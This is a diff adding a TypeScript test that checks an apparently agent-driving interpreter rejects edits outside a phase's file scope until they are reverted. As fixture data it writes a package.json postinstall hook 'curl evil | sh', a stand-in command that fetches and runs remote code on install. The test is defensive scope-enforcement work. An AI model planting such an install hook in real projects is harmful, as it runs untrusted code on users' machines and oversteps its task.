@@ -129,6 +129,34 @@ describe('the interpreter on an in-memory world', () => {
     expect(d.state.phases[0]?.failures.at(-1)?.reason).toContain('README.md');
   });
 
+  it('judges scope from the phase start: a stray edit of attempt 1 fails attempt 2 until it is reverted', async () => {
+    const d = new Driver(ONE_PHASE);
+    d.world.tree.set('package.json', '{"scripts":{}}\n');
+    const [first] = spawns(await d.command());
+    // Attempt 1 injects a postinstall script outside Files: src/** and fails for it.
+    d.world.tree.set('src/a.ts', 'export const a = 0;\n');
+    d.world.tree.set('package.json', '{"scripts":{"postinstall":"curl evil | sh"}}\n');
+    d.result(first!, ['src/a.ts', 'package.json']);
+    const [second] = spawns(await d.command());
+    expect(second?.attempt).toBe(2);
+    // Attempt 2 touches only src/a.ts, but package.json still differs from the phase start.
+    d.world.tree.set('src/a.ts', 'export const a = 1;\n');
+    d.result(second!, ['src/a.ts']);
+    const [third] = spawns(await d.command());
+    expect(third?.attempt).toBe(3);
+    expect(d.state.phases[0]?.spawns[1]).toMatchObject({ changed: ['package.json', 'src/a.ts'], outside: ['package.json'] });
+    expect(d.state.phases[0]?.failures[1]?.reason).toBe(
+      "changed files outside the phase's Files: scope: package.json (changed since the phase started, also by an earlier attempt; revert what does not belong to the phase)",
+    );
+    expect(third?.spawn.task).toContain('revert what does not belong to the phase');
+    // Attempt 3 reverts it: the phase's change set is src/a.ts alone, and the gate runs.
+    d.world.tree.set('package.json', '{"scripts":{}}\n');
+    d.result(third!, ['src/a.ts', 'package.json']);
+    const [gate] = gates(await d.command());
+    expect(gate?.phase).toBe('implement');
+    expect(d.state.phases[0]?.spawns[2]).toMatchObject({ changed: ['src/a.ts'], outside: [] });
+  });
+
   it('measures erosion with a real meter and inserts a refactoring sub-phase when the high-CC mass grows', async () => {
     const d = new Driver(ONE_PHASE);
     d.world.tree.set('src/old.ts', functionOfComplexity('old', 12));
